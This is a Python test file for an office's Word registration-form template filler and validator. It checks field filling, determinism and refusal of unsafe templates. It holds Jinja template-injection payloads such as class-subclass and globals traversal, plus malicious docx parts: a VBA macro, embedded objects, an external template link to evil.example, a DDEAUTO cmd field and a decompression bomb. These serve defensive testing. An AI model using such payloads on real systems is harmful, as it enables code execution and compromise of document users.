"""The office's own form: what it may hold, what is refused, and what is filled in."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from docx.document import Document as DocumentObject
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.registration import TaskContent
from reports.documents import registration_forms
from reports.file_kinds import Unreadable
from reports.form_example import example_template, invented_form
from reports.form_template import FIELDS, check_template, filled_forms
from tests.unit.official_samples import STATE
from tests.unit.reports_samples import AS_OF, TASK, english, form, person, vietnamese

PAGE = Path(__file__).parents[2] / "docs" / "form-templates.md"
NEEDED = "{{ nhiem_vu }}"


def docx_of(*lines: str, change: Callable[[DocumentObject], object] | None = None) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if change:
        change(document)
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """The same package with a part added, or in the place of the one of that name."""
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as read, zipfile.ZipFile(out, "w") as written:
        for entry in read.namelist():
            if entry != name:
                written.writestr(entry, read.read(entry))
        written.writestr(name, part, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return archive.read(name)


def words(content: bytes) -> list[str]:
    body = Document(BytesIO(content)).element.body
    return [
        text
        for p in body.iter(qn("w:p"))
        if (text := "".join(t.text or "" for t in p.iter(qn("w:t"))))
    ]


def refused(content: bytes, name: str = "mau.docx") -> str:
    with pytest.raises(Unreadable) as told:
        check_template(content, name)
    return english(told.value.reason)


def test_the_example_has_every_field_and_passes() -> None:
    assert check_template(example_template(vietnamese, AS_OF), "mau.docx") == FIELDS


def test_the_page_lists_the_fields_there_are() -> None:
    assert tuple(re.findall(r"^\| `(\w+)` \|", PAGE.read_text(), re.M)) == FIELDS


def test_the_example_filled_in_says_what_the_built_in_form_says() -> None:
    template = example_template(vietnamese, AS_OF)
    told = words(filled_forms(template, [form(person(1))], vietnamese))
    for line in (
        "Họ và tên: Lê Văn Ưu",
        f"Nhiệm vụ đăng ký: {TASK.task}",
        "TRƯỞNG PHÒNG",
    ):
        assert line in told
    assert any(line.endswith("15/12/2025") for line in told)
    built_in = words(registration_forms([form(person(1))], vietnamese))
    assert ("Lê Văn Ưu" in told) is ("Lê Văn Ưu" in built_in) is True
    assert not any("{" in line for line in told)


def test_a_passage_of_an_empty_field_is_left_out_with_its_paragraphs() -> None:
    template = docx_of(NEEDED, "{%p if bien_phap %}", "Biện pháp: {{ bien_phap }}", "{%p endif %}")
    few = replace(TASK, measures="")
    full, short = (
        words(filled_forms(template, [form(person(1), task)], vietnamese)) for task in (TASK, few)
    )
    assert len(full) == 6  # two copies, measures of two lines
    assert short == [TASK.task] * 2


def test_copies_stand_one_after_the_other_each_a_section_numbered_from_one() -> None:
    template = docx_of("{{ ban }}", NEEDED)
    made = filled_forms(template, [form(person(n)) for n in range(3)], vietnamese)
    assert words(made)[::2] == ["Bản nộp tại cơ quan", "Bản cá nhân lưu giữ"] * 3
    assert len(Document(BytesIO(made)).sections) == 6
    assert len(words(filled_forms(template, [form(person(1), collective=True)], vietnamese))) == 1


def test_a_field_that_word_has_torn_over_runs_is_one_field() -> None:
    def torn(document: DocumentObject) -> None:
        paragraph = document.add_paragraph()
        for piece in ("{", "{ ho", "_ten", " }", "}"):
            paragraph.add_run(piece).bold = len(piece) > 1

    template = docx_of(NEEDED, change=torn)
    assert check_template(template, "mau.docx") == ("ho_ten", "nhiem_vu")
    assert "Lê Văn Ưu" in words(filled_forms(template, [form(person(1))], vietnamese))


def test_the_same_template_and_forms_give_the_same_bytes() -> None:
    template = example_template(vietnamese, AS_OF)
    first, second = (filled_forms(template, [form(person(1))], vietnamese) for _ in range(2))
    assert first == second
    assert Document(BytesIO(first)).core_properties.modified == AS_OF


def test_no_form_is_refused() -> None:
    with pytest.raises(ValueError, match="at least one"):
        filled_forms(docx_of(NEEDED), [], vietnamese)


HOSTILE = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ nhiem_vu.__class__ }}",
    "{{ config }}",
    "{{ self }}",
    "{{ nhiem_vu|attr('x') }}",
    "{{ nhiem_vu * 1000000000 }}",
    "{{ range(10**9)|join }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ [1] }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{%p for x in nhiem_vu %}",
    "{% set x = 1 %}",
    "{% include 'x' %}",
    "{% import 'os' as os %}",
    "{% macro x() %}{% endmacro %}",
    "{% if nhiem_vu.x %}{% endif %}",
    "{% if nhiem_vu == 'x' %}{% endif %}",
    "{# nothing #}",
    "{{r nhiem_vu }}",
    "{%tc if nhiem_vu %}{% endif %}",
    "{% colspan 9999 %}",
    "{% vm %}",
    "{%- if nhiem_vu %}{% endif %}",
    "{{ nhiem_vu",
    "nhiem_vu }}",
    "{",
    "{_{ x }_}",
    "{{ ho ten }}",
    "{{ matkhau }}",
    "{{ nhiem_vu }}{% endif %}{% if nhiem_vu %}",
    "{% if nhiem_vu %}",
)


@pytest.mark.parametrize("line", HOSTILE)
def test_a_tag_that_is_no_field_is_refused_by_name(line: str) -> None:
    told = refused(docx_of(NEEDED, line))
    assert told.startswith("mau.docx")
    if "matkhau" in line or "__class__" in line:
        assert ("matkhau" if "matkhau" in line else line[:30]) in told


def test_a_tag_torn_over_paragraphs_is_refused() -> None:
    assert "brace" in refused(docx_of(NEEDED, "{", "{ x }}"))


def test_a_passage_that_would_tear_the_document_is_refused() -> None:
    def across_cells(document: DocumentObject) -> None:
        cells = document.add_table(1, 2).rows[0].cells
        cells[0].text, cells[1].text = "{% if bien_phap %}x", "y{% endif %}"

    def out_of_a_table(document: DocumentObject) -> None:
        document.add_table(1, 1).rows[0].cells[0].text = "{%p if bien_phap %}"
        document.add_paragraph("{%p endif %}")

    for tear in (across_cells, out_of_a_table):
        assert "bien_phap" in refused(docx_of(NEEDED, change=tear))


def test_a_form_has_to_say_what_is_registered() -> None:
    assert "{{ nhiem_vu }}" in refused(docx_of("{{ ho_ten }}"))


def test_fields_elsewhere_than_in_the_text_are_refused() -> None:
    def in_header(document: DocumentObject) -> None:
        document.sections[0].header.paragraphs[0].text = "{{ ho_ten }}"

    def in_title(document: DocumentObject) -> None:
        document.core_properties.title = "{{ ''.__class__ }}"

    assert "header" in refused(docx_of(NEEDED, change=in_header))
    assert "core" in refused(docx_of(NEEDED, change=in_title))
    body = part_of(docx_of(NEEDED), "word/document.xml")
    named = body.replace(b"<w:p>", b'<w:p w:rsidR="{{ ho_ten }}">', 1)
    assert "property" in refused(with_part(docx_of(NEEDED), "word/document.xml", named))


@pytest.mark.parametrize(
    ("name", "part", "told"),
    [
        ("word/vbaProject.bin", b"x", "macros"),
        ("word/embeddings/oleObject1.bin", b"x", "embedded"),
        ("word/activeX/activeX1.xml", b"<x/>", "embedded"),
        ("customXml/item1.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "entities"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="x"><Relationship Id="r" Type="http://x/attachedTemplate"'
            b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            "elsewhere",
        ),
        (
            "word/footnotes.xml",
            b'<w:footnotes xmlns:w="w"><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:footnotes>',
            "DDEAUTO",
        ),
        ("word/bomb.xml", b"<x>" + b" " * 3_000_000 + b"</x>", "unpacks"),
    ],
)
def test_what_acts_by_itself_is_refused(name: str, part: bytes, told: str) -> None:
    assert told in refused(with_part(docx_of(NEEDED), name, part))


def test_a_macro_enabled_document_is_refused_whatever_it_is_called() -> None:
    content = docx_of(NEEDED)
    types = part_of(content, "[Content_Types].xml").replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main",
        b"ms-word.document.macroEnabled.main",
    )
    assert "macros" in refused(with_part(content, "[Content_Types].xml", types))


def test_a_link_to_a_page_is_no_danger() -> None:
    content = docx_of(NEEDED)
    rels = part_of(content, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://x.vn" TargetMode="External"/></Relationships>',
    )
    assert check_template(with_part(content, "word/_rels/document.xml.rels", rels), "mau.docx")


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0", b"{{ nhiem_vu }}"]
)
def test_what_is_no_word_document_is_refused(content: bytes) -> None:
    assert "no Word document" in refused(content, "mau.docx")


def test_many_open_braces_are_told_at_once() -> None:
    """docxtpl's patterns would look for the end of each to the end of the document."""
    assert refused(docx_of(NEEDED, "{{r " * 200_000))


def test_what_was_typed_is_letters_in_the_form() -> None:
    task = '<w:p/>&amp; {{ ho_ten }} {% for x in y %} "=1+1" \x00\x07\x0c\ud800'
    made = filled_forms(
        example_template(vietnamese, AS_OF), [form(person(1), replace(TASK, task=task))], vietnamese
    )
    assert 'Nhiệm vụ đăng ký: <w:p/>&amp; {{ ho_ten }} {% for x in y %} "=1+1" ' in words(made)


@settings(max_examples=20, deadline=None)
@given(st.text(max_size=120))
def test_whatever_is_typed_the_filled_form_opens(task: str) -> None:
    content = TaskContent(f"Việc {task}", "Sản phẩm", TASK.due)
    made = filled_forms(docx_of("A: {{ nhiem_vu }}"), [form(person(1), content)], vietnamese)
    assert words(made)[0].startswith("A: Việc")


def test_the_preview_is_of_nobody() -> None:
    invented = invented_form(STATE.letterhead, STATE.basis, STATE.signer, vietnamese, AS_OF)
    told = words(filled_forms(example_template(vietnamese, AS_OF), [invented], vietnamese))
    assert "Họ và tên: Ngô Thị Ví Dụ" in told
